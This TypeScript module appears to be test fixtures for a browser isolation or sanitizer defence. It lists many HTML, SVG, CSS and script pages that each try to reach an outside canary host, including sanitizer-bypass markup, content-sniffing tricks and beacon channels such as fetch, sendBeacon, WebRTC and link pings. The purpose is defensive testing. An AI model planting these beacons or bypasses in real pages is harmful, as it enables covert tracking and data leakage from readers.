/**
 * Pages that try to reach somebody outside while they are read: one trick a page. Each asks the canary for
 * `/<its name>…`, as far as it asks for anything that has a path.
 * @module
 */

type Extension =
  | 'html'
  | 'xhtml'
  | 'svg'
  | 'xml'
  | 'm3u'
  | 'mp4'
  | 'sxg'
  | 'txt'
  | 'png'
  | 'bin'
  | 'css'
  | 'json'
  | ''

export interface Trick {
  /** Small letters and digits: part of paths. */
  readonly name: string
  /** Decides the type that it is served with. */
  readonly extension: Extension
  /** What its bytes are, where its extension says something else; without a defence it is served as that. */
  readonly means?: Extension
  /** `url` is an address at the canary, `host` its host and port. */
  readonly page: (url: string, host: string) => string | Uint8Array
  /** Somebody clicks the button in it. */
  readonly isClicked?: true
  /** Visited by itself: it asks for nothing that has a path, or only while somebody looks at it. */
  readonly isAlone?: true
}

type Page = (url: string, host: string) => string

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'

function html(name: string, page: Page): Trick {
  return {
    name,
    extension: 'html',
    page: (url, host) => `<!doctype html><title>${name}</title><body>${page(url, host)}`,
  }
}

function script(name: string, page: Page): Trick {
  return html(name, (url, host) => `<script>${page(url, host)}</script>`)
}

/** HTML under another type, or none: a browser must not find out what it is. */
function sniffed(name: string, extension: Extension, means: 'html' | 'svg' | 'xhtml'): Trick {
  const root = means === 'svg' ? `svg ${SVG}` : `html ${XHTML}`
  const page = (url: string) =>
    `<${root}><image xmlns="http://www.w3.org/2000/svg" href="${url}" src="${url}" width="9" height="9"/><img ${XHTML} src="${url}"/></${root.split(' ')[0] ?? ''}>`
  return { name, extension, means, page }
}

function clicked(name: string, page: Page): Trick {
  return { ...html(name, page), isClicked: true }
}

function alone(trick: Trick): Trick {
  return { ...trick, isAlone: true }
}

function css(name: string, rule: (url: string) => string): Trick {
  return html(name, (url) => `<style>${rule(url)}</style><p id="p">text<ul><li>item</ul>`)
}

function svg(name: string, content: (url: string) => string): Trick {
  return {
    name,
    extension: 'svg',
    page: (url) => `<svg ${SVG} width="9" height="9">${content(url)}</svg>`,
  }
}

function playlist(url: string): string {
  return `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${url}\n#EXT-X-ENDLIST\n`
}

/** A signed exchange that wants its certificate from the canary before anything else. */
function exchange(host: string): Uint8Array {
  const fallback = Buffer.from(`https://${host}/fallback`)
  const now = Math.floor(Date.now() / 1000)
  const hash = 'A'.repeat(43)
  const signature = Buffer.from(
    `label;cert-sha256=*${hash}=*;cert-url="https://${host}/certificate";date=${now - 60};expires=${now + 3600};` +
      `integrity="digest/mi-sha256-03";sig=*AAAA*;validity-url="https://${host}/validity"`,
  )
  const header = Buffer.from('\xa1G:statusC200', 'latin1')
  const sizes = Buffer.alloc(6)
  sizes.writeUIntBE(signature.length, 0, 3)
  sizes.writeUIntBE(header.length, 3, 3)
  const start = Buffer.from('sxg1-b3\0\0\0', 'latin1')
  start.writeUInt16BE(fallback.length, 8)
  return Buffer.concat([start, fallback, sizes, signature, header, Buffer.from('x')])
}

/** Without scripts. */
export const MARKUP_TRICKS: readonly Trick[] = [
  html('img', (url) => `<img src="${url}">`),
  html('imgset', (url) => `<img srcset="${url} 1x">`),
  html('imgentity', (url) => `<img src="${url.replace(':', '&#58').replaceAll('/', '&#x2f;')}">`),
  html('imgtab', (url) => `<img src=" ht\ttp:${url.slice(5)}">`),
  html('imgslashes', (url) => `<img src="${url.slice(5).replaceAll('/', '\\')}">`),
  html('imgtwice', (url) => `<img src="${url}" src="x.png">`),
  html('imgimage', (url) => `<image src="${url}">`),
  html('picture', (url) => `<picture><source srcset="${url}"><img></picture>`),
  html('background', (url) => `<table background="${url}"><td>a</table>`),
  html('inputimage', (url) => `<input type=image src="${url}">`),
  html('video', (url) => `<video src="${url}" autoplay></video>`),
  html('poster', (url) => `<video poster="${url}"></video>`),
  html('audio', (url) => `<audio src="${url}" preload=auto></audio>`),
  html('source', (url) => `<video autoplay><source src="${url}"></video>`),
  html('iframe', (url) => `<iframe src="${url}"></iframe>`),
  html('srcdoc', (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`),
  html('dataframe', (url) => `<iframe src="data:text/html,<img src='${url}'>"></iframe>`),
  {
    name: 'frameset',
    extension: 'html',
    page: (url) => `<!doctype html><frameset><frame src="${url}"></frameset>`,
  },
  html('object', (url) => `<object data="${url}"></object>`),
  html('embed', (url) => `<embed src="${url}">`),
  html('stylesheet', (url) => `<link rel=stylesheet href="${url}">`),
  html('prefetch', (url) => `<link rel=prefetch href="${url}">`),
  html('preload', (url) => `<link rel=preload as=image href="${url}">`),
  html('preloadset', (url) => `<link rel=preload as=image imagesrcset="${url}">`),
  html('modulepreload', (url) => `<link rel=modulepreload href="${url}">`),
  alone(html('preconnect', (url) => `<link rel=preconnect href="${url}">`)),
  html('refresh', (url) => `<meta http-equiv=refresh content="0;url=${url}">`),
  html('base', (url) => `<base href="${url}/"><img src="x">`),
  html('noscript', (url) => `<noscript><p title="</noscript><img src='${url}'>">`),
  html('styletag', (url) => `<svg><p><style><a title="</style><img src='${url}'>">`),
  html(
    'mathtag',
    (url) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${url}&gt;"><img src="${url}">`,
  ),
  html('commentbang', (url) => `<!-- --!><img src="${url}"> -->`),
  html('commentshort', (url) => `<!--><img src="${url}"> -->`),
  html('cdata', (url) => `<svg><![CDATA[><img src="${url}">]]></svg>`),
  html('cdatahtml', (url) => `<![CDATA[><img src="${url}">]]>`),
  html('textarea', (url) => `<svg><textarea><img src="${url}">`),
  html('titletag', (url) => `<svg><title><img src="${url}">`),
  html('xmp', (url) => `<math><xmp><img src="${url}">`),
  html(
    'template',
    (url) => `<div><template shadowrootmode=open><img src="${url}"></template></div>`,
  ),
  html('processing', (url) => `<?xml-stylesheet ><img src="${url}">?>`),
  html('svgimage', (url) => `<svg><image href="${url}" width=9 height=9 /></svg>`),
  html('svgxlink', (url) => `<svg><image xlink:href="${url}" width=9 height=9 /></svg>`),
  html(
    'svgfilter',
    (url) =>
      `<svg><filter id=a><feImage href="${url}"/></filter><rect width=9 height=9 filter="url(#a)"/></svg>`,
  ),
  html(
    'svganimate',
    (url) => `<svg><image width=9 height=9><set attributeName=href to="${url}"/></image></svg>`,
  ),
  html('svgstyle', (url) => `<svg><style>@import "${url}";</style></svg>`),
  html('attributestyle', (url) => `<p style="background:url(${url})">a`),
  css('import', (url) => `@import "${url}";`),
  css('importurl', (url) => `@import url(${url}) screen;`),
  css('url', (url) => `body{background:url("${url}")}`),
  css('escapedurl', (url) => `body{background:\\75rl("\\68${url.slice(1)}")}`),
  css('imageset', (url) => `body{background:image-set("${url}" 1x)}`),
  css('font', (url) => `@font-face{font-family:f;src:url(${url})}#p{font-family:f}`),
  css('list', (url) => `li{list-style-image:url(${url})}`),
  css('content', (url) => `#p::before{content:url(${url})}`),
  css('border', (url) => `#p{border:9px solid;border-image:url(${url}) 9}`),
  css('mask', (url) => `#p{mask-image:url(${url})}`),
  css('shape', (url) => `#p{float:left;shape-outside:url(${url})}`),
  css('variable', (url) => `:root{--a:url(${url})}#p{background:var(--a)}`),
  svg('drawnimage', (url) => `<image href="${url}" width="9" height="9"/>`),
  svg(
    'drawnstyle',
    (url) =>
      `<style>rect{fill:red;mask:url(${url})} @import "${url}";</style><rect width="9" height="9"/>`,
  ),
  svg(
    'drawnforeign',
    (url) => `<foreignObject width="9" height="9"><img ${XHTML} src="${url}"/></foreignObject>`,
  ),
  svg('drawnprefix', (url) => `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="${url}"/>`),
  svg(
    'drawnlink',
    (url) => `<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${url}"/>`,
  ),
  svg('drawnscript', (url) => `<script href="${url}"/>`),
  {
    name: 'instruction',
    extension: 'svg',
    page: (url) => `<?xml-stylesheet href="${url}"?><svg ${SVG}/>`,
  },
  { name: 'xmlimage', extension: 'xml', page: (url) => `<a><img ${XHTML} src="${url}"/></a>` },
  {
    name: 'xmlstyle',
    extension: 'xml',
    page: (url) => `<?xml-stylesheet type="text/css" href="${url}"?><a/>`,
  },
  {
    name: 'transform',
    extension: 'xml',
    page: (url) =>
      `<?xml-stylesheet type="text/xsl" href="transform.xml"?><t:stylesheet version="1.0" xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:template match="/"><html ${XHTML}><body><img src="${url}"/></body></html></t:template></t:stylesheet>`,
  },
  { name: 'playlist', extension: 'm3u', page: playlist },
  { name: 'playlistfilm', extension: 'mp4', page: playlist },
  alone({ name: 'exchange', extension: 'sxg', page: (_, host) => exchange(host) }),
  clicked('form', (url) => `<form action="${url}"><button>a</button></form>`),
  clicked('formbutton', (url) => `<form><button formaction="${url}">a</button></form>`),
  clicked('formpost', (url) => `<form method=post action="${url}"><button>a</button></form>`),
  clicked('ping', (url) => `<a href="#a" ping="${url}"><button>a</button></a>`),
  clicked('target', (url) => `<a href="${url}" target="_blank"><button>a</button></a>`),
  sniffed('snifftext', 'txt', 'html'),
  sniffed('sniffpicture', 'png', 'svg'),
  sniffed('sniffbytes', 'bin', 'html'),
  sniffed('sniffxml', 'bin', 'xhtml'),
  sniffed('snifffilm', 'mp4', 'html'),
  sniffed('sniffstyle', 'css', 'svg'),
  sniffed('sniffjson', 'json', 'xhtml'),
  sniffed('sniffnothing', '', 'html'),
  {
    name: 'xhtmlimage',
    extension: 'xhtml',
    page: (url) => `<html ${XHTML}><head><title/></head><body><img src="${url}"/></body></html>`,
  },
]

const insert = (markup: string) => `document.body.innerHTML=${JSON.stringify(markup)}`
const hint = (rel: string, url: string, more = '') =>
  `const l=document.createElement('link');${more}l.rel='${rel}';l.href='${url}';document.head.append(l)`

/** With scripts: those of a page whose reader allowed them must fail, too. */
export const SCRIPT_TRICKS: readonly Trick[] = [
  script('fetch', (url) => `fetch('${url}',{mode:'no-cors'}).catch(()=>{})`),
  script('request', (url) => `const r=new XMLHttpRequest;r.open('GET','${url}');r.send()`),
  script('beacon', (url) => `navigator.sendBeacon('${url}','x')`),
  script('socket', (_, host) => `new WebSocket('ws://${host}/socket')`),
  script('events', (url) => `new EventSource('${url}')`),
  script('imageobject', (url) => `new Image().src='${url}'`),
  script('inserted', (url) => insert(`<img src=${url}><iframe src=${url}></iframe>`)),
  script('insertedstyle', (url) => insert(`<style>@import '${url}';</style>`)),
  script(
    'insertedrefresh',
    (url) =>
      `const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=${url}';document.head.append(m)`,
  ),
  script('written', (url) => `document.write('<meta http-equiv=refresh content="0;url=${url}">')`),
  alone(script('hintpreconnect', (url) => hint('preconnect', url))),
  script('hintprefetch', (url) => hint('prefetch', url)),
  script('hintpreload', (url) => hint('preload', url, "l.as='image';")),
  script('hintdictionary', (url) => hint('compression-dictionary', url)),
  alone(
    script(
      'speculation',
      (url) =>
        `const s=document.createElement('script');s.type='speculationrules';s.textContent='{"prefetch":[{"urls":["${url}"],"eagerness":"immediate"}]}';document.head.append(s)`,
    ),
  ),
  script('location', (url) => `location='${url}'`),
  script('replace', (url) => `location.replace('${url}')`),
  script('navigation', (url) => `navigation.navigate('${url}')`),
  script('click', (url) => `const a=document.createElement('a');a.href='${url}';a.click()`),
  script(
    'clickping',
    (url) => `const a=document.createElement('a');a.href='#';a.ping='${url}';a.click()`,
  ),
  script('open', (url) => `window.open('${url}')`),
  script(
    'submit',
    (url) =>
      `const f=document.createElement('form');f.action='${url}';document.body.append(f);f.submit()`,
  ),
  script('top', (url) => `top.location='${url}'`),
  alone(
    script(
      'peer',
      (_, host) =>
        `const c=new RTCPeerConnection({iceServers:[{urls:'stun:${host}'},{urls:'turn:${host}?transport=tcp',username:'a',credential:'b'}]});c.createDataChannel('x');c.createOffer().then((o)=>c.setLocalDescription(o))`,
    ),
  ),
  script(
    'frameblank',
    (url) =>
      `const f=document.createElement('iframe');document.body.append(f);f.contentWindow.location='${url}'`,
  ),
  script(
    'framedocument',
    (url) =>
      `const f=document.createElement('iframe');f.srcdoc="<script>location='${url}'<\\/script><img src='${url}'>";document.body.append(f)`,
  ),
  script(
    'framedata',
    (url) =>
      `const f=document.createElement('iframe');f.src="data:text/html,<script>location='${url}'<\\/script><img src='${url}'>";document.body.append(f)`,
  ),
  script(
    'frameblob',
    (url) =>
      `const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(["<script>fetch('${url}')<\\/script><img src='${url}'>"],{type:'text/html'}));document.body.append(f)`,
  ),
  script('worker', (url) => `new Worker(URL.createObjectURL(new Blob(["fetch('${url}')"])))`),
  script(
    'sharedworker',
    (url) => `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${url}')"])))`,
  ),
  script('module', (url) => `import('${url}').catch(()=>{})`),
  script('audioobject', (url) => `new Audio('${url}').play().catch(()=>{})`),
  script('fontface', (url) => `new FontFace('f','url(${url})').load().catch(()=>{})`),
  script('worklet', (url) => `new AudioContext().audioWorklet.addModule('${url}').catch(()=>{})`),
  script('streamsocket', (_, host) => `new WebSocketStream('ws://${host}/streamsocket')`),
  script(
    'payment',
    (url) =>
      `new PaymentRequest([{supportedMethods:'${url}'}],{total:{label:'a',amount:{currency:'USD',value:'1'}}}).canMakePayment()`,
  ),
  alone(
    script(
      'identity',
      (url) =>
        `navigator.credentials.get({identity:{mode:'passive',providers:[{configURL:'${url}',clientId:'a'}]}}).catch(()=>{})`,
    ),
  ),
  script(
    'playlist',
    (url) =>
      `const v=document.createElement('video');v.src=URL.createObjectURL(new Blob([${JSON.stringify(playlist(url))}],{type:'application/vnd.apple.mpegurl'}));document.body.append(v)`,
  ),
  script(
    'bundle',
    (url) =>
      `const s=document.createElement('script');s.type='webbundle';s.textContent=JSON.stringify({source:'${url}',resources:['${url}/a']});document.head.append(s)`,
  ),
  script('openblank', (url) => `const w=open('about:blank');if(w)w.location='${url}'`),
  script('dataimport', (url) => `import('data:text/javascript,import "${url}"').catch(()=>{})`),
  script('keepalive', (url) => `fetch('${url}',{keepalive:true,mode:'no-cors'}).catch(()=>{})`),
  clicked('scriptclick', (url) => `<button onclick="location='${url}'">a</button>`),
  html('handler', (url) => `<img src="data:," onerror="new Image().src='${url}'">`),
  html(
    'javascriptframe',
    (url) => `<iframe src="javascript:void(new Image().src='${url}')"></iframe>`,
  ),
  alone(
    html(
      'speculationtag',
      (url) =>
        `<script type=speculationrules>{"prefetch":[{"urls":["${url}"],"eagerness":"immediate"}]}</script>`,
    ),
  ),
  html(
    'importmap',
    (url) =>
      `<script type=importmap>{"imports":{"a":"${url}"}}</script><script type=module>import 'a'</script>`,
  ),
]
